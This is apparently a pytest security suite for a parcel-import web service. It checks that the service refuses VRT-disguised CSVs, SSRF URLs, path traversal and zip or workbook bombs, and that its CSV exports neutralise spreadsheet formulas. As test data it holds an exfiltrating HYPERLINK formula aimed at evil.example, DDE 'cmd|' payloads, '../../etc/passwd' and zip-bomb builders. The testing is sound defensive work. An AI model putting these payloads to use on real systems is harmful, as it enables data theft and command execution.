"""Imports open only what their suffix says, and the service's CSVs are safe to open in a spreadsheet.

An attacker with an officer's login sends a file named `.csv` that is a GDAL virtual dataset (VRT) naming a
server file or a URL, a layer name that is a URL, a zip bomb, a workbook bomb; and data whose text a
spreadsheet would run as a formula. Each is refused in one line without a byte of the target file, no
request leaves the server, and an export of formula-like text is neutralised yet re-imports as it was.
"""

from __future__ import annotations

import asyncio
import csv
import http.server
import io
import json
import os
import subprocess
import sys
import threading
import uuid
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pyogrio
import pytest
import shapely
from sqlalchemy import text

from app.errors import DomainError
from app.imports.service import ImportOptions, run_import
from tests.builders import basic
from tests.conftest import TEST_URL, make_settings
from tests.contract_builders import contract, organisation, parcel, uscc
from tests.imports.files import BUREAU, Row, city_rows, frame, square, write
from tests.imports.test_import_files import stored
from tests.imports.test_import_jobs import finished, post_file

API = "/api/v1"


@pytest.fixture
def secret(tmp_path: Path) -> tuple[Path, str]:
    """A server file an attacker wants: a CSV whose every line carries a unique secret."""
    word = f"SECRET-{uuid.uuid4().hex}"
    path = tmp_path / "server-only" / "keys.csv"
    path.parent.mkdir()
    path.write_text(f"code,wkt\n{word}-1,POINT (121.45 31.15)\n{word}-2,POINT (121.46 31.15)\n")
    return path, word


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A web server on this machine that records every request it gets (an SSRF target)."""
    hits: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_HEAD = do_GET

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", hits
    finally:
        server.shutdown()
        server.server_close()


def vrt(source: str, layer: str) -> str:
    """OGR VRT XML reading `layer` of `source` (a file, `CSV:file`, a /vsicurl/ URL) as layer `parcels`."""
    return (
        '<OGRVRTDataSource><OGRVRTLayer name="parcels">'
        f"<SrcDataSource>{source}</SrcDataSource><SrcLayer>{layer}</SrcLayer>"
        "</OGRVRTLayer></OGRVRTDataSource>\n"
    )


def one_line(detail: str) -> None:
    assert detail and "\n" not in detail and len(detail) <= 300, detail


async def test_a_vrt_named_csv_is_refused_over_http_without_a_line_of_its_target(
    client, app, city, tmp_path: Path, secret
):
    target, word = secret
    upload = tmp_path / "parcels.csv"
    upload.write_text(vrt(f"CSV:{target}", "keys"))
    job = await finished(client, app, await post_file(client, upload, user="officer.east"), user="officer.east")
    assert job["status"] == "failed" and job["error"]["code"] == "VALIDATION_ERROR", job
    one_line(job["error"]["detail"])
    assert job["error"]["detail"] == "cannot open parcels.csv: it holds XML or binary data, not comma-separated text"
    report = await client.get(f"{API}/imports/{job['id']}/report", headers=basic("officer.east"))
    listed = await client.get(f"{API}/imports", headers=basic("bureau"))
    for body in (json.dumps(job), report.text, listed.text):
        assert word not in body and str(target) not in body


async def test_a_vrt_named_csv_is_refused_by_run_import_and_the_cli(db, settings, tmp_path: Path, secret):
    target, word = secret
    upload = tmp_path / "parcels.csv"
    upload.write_text(vrt(f"CSV:{target}", "keys"))
    with pytest.raises(DomainError) as caught:
        await run_import(db, settings, BUREAU, upload, ImportOptions(skip_invalid=True))
    assert caught.value.code == "VALIDATION_ERROR" and word not in str(caught.value.problem())
    proc = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-m", "app.cli", "import", str(upload), "--dry-run"],
        cwd=tmp_path, env={**os.environ, "DATABASE_URL": TEST_URL}, capture_output=True, text=True, timeout=120,
    )
    assert proc.returncode == 1  # a DomainError: its code and detail on stderr
    assert word not in proc.stdout + proc.stderr
    assert "it holds XML or binary data, not comma-separated text" in proc.stderr
    assert not (tmp_path / "parcels.refused.gpkg").exists()  # no report of the target's "rows" either


async def test_no_file_or_form_field_makes_the_server_fetch_a_url(client, app, city, db, settings, tmp_path: Path,
                                                                listener):
    url, hits = listener
    # A VRT whose source is a URL, as a .csv and as the CSV inside a zip.
    remote = tmp_path / "remote.csv"
    remote.write_text(vrt(f"/vsicurl/{url}/keys.csv", "keys"))
    with zipfile.ZipFile(tmp_path / "remote.zip", "w") as archive:
        archive.write(remote, "data/parcels.csv")
    for upload in (remote, tmp_path / "remote.zip"):
        job = await finished(client, app, await post_file(client, upload))
        assert job["status"] == "failed" and job["error"]["code"] == "VALIDATION_ERROR", job
        one_line(job["error"]["detail"])
    # A GeoJSON whose CRS is "linked" to a URL (GeoJSON 2008): read, with no request for the CRS.
    linked = tmp_path / "linked.geojson"
    write(frame(city_rows("LK")[:1], 4326), linked, driver="GeoJSON")
    body = json.loads(linked.read_text())
    body["crs"] = {"type": "link", "properties": {"href": f"{url}/crs.prj", "type": "proj4"}}
    linked.write_text(json.dumps(body))
    outcome = await run_import(db, settings, BUREAU, linked, ImportOptions(dry_run=True))
    assert outcome.read == 1
    # A layer named by URL, over HTTP: refused at once, naming the field.
    parcels = write(frame(city_rows("VL")[:1], 4490), tmp_path / "vl.gpkg")
    for field, value in (("layer", f"/vsicurl/{url}/x.gpkg"), ("layer", "../../etc/passwd"),
                         ("encoding", f"/vsicurl/{url}/"), ("map", f"code=/vsicurl/{url}/c")):
        refused = await post_file(client, parcels, **{field: value})
        assert refused.status_code == 422, refused.text
        problem = refused.json()
        assert (problem["code"], problem["field"]) == ("VALIDATION_ERROR", field), problem
        one_line(problem["detail"])
    assert hits == []  # not one request reached the server, whatever was asked


def _zip_of_zeros(path: Path, megabytes: int, name: str = "data/parcels.csv", extra: Path | None = None) -> Path:
    """A zip holding `megabytes` MiB of zeros in one member (about 1,000 to 1 compressed)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        if extra is not None:
            with zipfile.ZipFile(extra) as original:
                for info in original.infolist():
                    archive.writestr(info.filename, original.read(info))
        with archive.open(name, "w") as member:
            block = b"\0" * (1 << 20)
            for _ in range(megabytes):
                member.write(block)
    return path


async def test_zip_bombs_are_refused_before_they_are_inflated(client, app, city, db, tmp_path: Path):
    # Many members.
    many = tmp_path / "many.zip"
    with zipfile.ZipFile(many, "w") as archive:
        for n in range(10_001):
            archive.writestr(f"d/{n}.txt", b"")
    # One member compressed about a thousand to one.
    dense = _zip_of_zeros(tmp_path / "dense.zip", 64)
    expected = {
        "many.zip": "many.zip holds 10,001 members; at most 10,000 are read",
        "dense.zip": "dense.zip holds a member compressed more than 100 to 1 (a zip bomb?); not read",
    }
    for upload in (many, dense):
        job = await finished(client, app, await post_file(client, upload))
        assert job["status"] == "failed" and job["error"]["code"] == "VALIDATION_ERROR", job
        assert job["error"]["detail"] == expected[upload.name]
    # A member whose directory entry declares 4 GiB: refused by size alone (it is never inflated to see).
    shp_zip = tmp_path / "declared.zip"
    with zipfile.ZipFile(shp_zip, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("data/parcels.csv", b"code,wkt\n")
    raw = bytearray(shp_zip.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = raw.index(signature)
        raw[at + offset:at + offset + 4] = (0xFFFFFFF0).to_bytes(4, "little")
    shp_zip.write_bytes(bytes(raw))
    with pytest.raises(DomainError) as caught:
        await run_import(db, make_settings(), BUREAU, shp_zip, ImportOptions())
    assert caught.value.code == "VALIDATION_ERROR"
    assert str(caught.value) == "declared.zip would unpack to 4,096 MiB; at most 2,048 MiB are read"
    # The limits are settings.
    small = make_settings(import_zip_max_uncompressed_mb=1, import_zip_max_members=3)
    plain = tmp_path / "plain.zip"
    with zipfile.ZipFile(plain, "w") as archive:
        archive.writestr("data/parcels.csv", os.urandom(3 << 20))
    with pytest.raises(DomainError, match=r"plain\.zip would unpack to 3 MiB; at most 1 MiB are read"):
        await run_import(db, small, BUREAU, plain, ImportOptions())


async def test_a_workbook_bomb_is_refused_as_a_zip_is(client, app, city, tmp_path: Path):
    sheet = tmp_path / "sheet.xlsx"
    pyogrio.write_dataframe(
        frame(city_rows("XB")[:1], 4490).assign(wkt=lambda f: f.geometry.to_wkt()).drop(columns="geometry"),
        sheet, layer="parcels", driver="XLSX",
    )
    bomb = _zip_of_zeros(tmp_path / "bomb.xlsx", 64, name="xl/media/image1.bin", extra=sheet)
    job = await finished(client, app, await post_file(client, bomb))
    assert job["status"] == "failed" and job["error"]["code"] == "VALIDATION_ERROR", job
    assert job["error"]["detail"] == "bomb.xlsx holds a member compressed more than 100 to 1 (a zip bomb?); not read"
    # Inside a zip, the workbook is checked too.
    with zipfile.ZipFile(tmp_path / "outer.zip", "w", zipfile.ZIP_STORED) as archive:
        archive.write(bomb, "data/bomb.xlsx")
    job = await finished(client, app, await post_file(client, tmp_path / "outer.zip"))
    assert job["status"] == "failed" and "compressed more than 100 to 1" in job["error"]["detail"], job


async def test_formula_like_text_leaves_every_csv_neutralised_and_reimports_as_it_was(
    client, app, city, db, settings, tmp_path: Path
):
    # A code a spreadsheet reads as the formula =-A1, and a zone named as a hyperlink formula.
    rows = [Row("-A1", "industrial", square(121.45, 31.15), "fragment", 1.5, "104")]
    outcome = await run_import(db, settings, BUREAU, write(frame(rows, 4490), tmp_path / "f.gpkg"), ImportOptions())
    assert outcome.committed, outcome.refused
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'
    zone = await client.post(f"{API}/zones", json={
        "type": "Feature", "geometry": shapely.geometry.mapping(square(121.55, 31.25, 300)),
        "properties": {"code": "Z-F1", "name": hyperlink, "kind": "community", "advanced_manufacturing": False,
                       "far_cap": 2.0}}, headers=basic("bureau"))
    assert zone.status_code == 201, zone.text

    exported = await client.get(f"{API}/parcels/export?f=csv", headers=basic("bureau"))
    assert exported.status_code == 200, exported.text
    row = next(csv.DictReader(io.StringIO(exported.text)))
    assert row["code"] == "'-A1"
    assert row["plot_ratio"] == "1.50"  # a number stays a number
    assert row["wkt"].startswith("MULTIPOLYGON(((") and "'" not in row["wkt"]
    zones = await client.get(f"{API}/zones/export?f=csv&bbox=121.54,31.24,121.6,31.3", headers=basic("bureau"))
    named = next(r for r in csv.DictReader(io.StringIO(zones.text)) if r["code"] == "Z-F1")
    assert named["name"] == "'" + hyperlink and named["far_cap"] == "2.00"

    # Back into an empty database, the codes and names are what they were.
    (tmp_path / "parcels.csv").write_bytes(exported.content)
    (tmp_path / "zones.csv").write_bytes(zones.content)
    async with db.session() as session:
        await session.execute(text("DELETE FROM parcel"))
        await session.execute(text("DELETE FROM zone WHERE code = 'Z-F1'"))
        await session.commit()
    again = await run_import(db, settings, BUREAU, tmp_path / "zones.csv", ImportOptions(kind="zones"))
    assert again.committed, again.refused
    again = await run_import(db, settings, BUREAU, tmp_path / "parcels.csv", ImportOptions())
    assert again.committed, again.refused
    assert list(await stored(db)) == ["-A1"]
    async with db.session() as session:
        assert await session.scalar(text("SELECT name FROM zone WHERE code = 'Z-F1' AND valid_to IS NULL")) == hyperlink


async def test_a_refused_rows_report_and_a_report_table_neutralise_formulas(client, app, city, tmp_path: Path):
    # The refused rows' codes come from the file: a formula there is text in the report.
    table = tmp_path / "formulas.csv"
    table.write_text('code,land_use,wkt\n"=cmd|\' /C calc\'!A0",industrial,"POLYGON ((121.45 31.15,121.451 31.15,'
                     '121.451 31.151,121.45 31.15))"\n')
    job = await finished(client, app, await post_file(client, table, skip_invalid="true"))
    assert job["refused"][0]["key"] == "=cmd|' /C calc'!A0", job
    report = await client.get(f"{API}/imports/{job['id']}/report", headers=basic("bureau"))
    refused = list(csv.DictReader(io.StringIO(report.text)))
    assert refused[0]["feature_code"] == "'=cmd|' /C calc'!A0" and refused[0]["row"] == "1"
    # An enterprise named as a formula, in the evaluations-due report's CSV.
    name = '@SUM(1+1)*cmd|" /C calc"!A0'
    made = await client.post(f"{API}/enterprises", json={"name": name, "uscc": uscc(990_001),
                                                        "industry_code": "C39"}, headers=basic("bureau"))
    assert made.status_code == 201, made.text
    land = await parcel(client)
    await contract(client, land["id"], made.json()["id"], await organisation(client), date(2023, 1, 1))
    due = await client.get(f"{API}/reports/evaluations-due?within_days=3650&f=csv", headers=basic("bureau"))
    assert due.status_code == 200, due.text
    ours = str(made.json()["id"])
    rows = [r for r in csv.DictReader(io.StringIO(due.text.lstrip("\ufeff"))) if r["enterprise_id"] == ours]
    assert rows and all(r["enterprise_name"] == "'" + name and r["contract_id"].isdigit() for r in rows)
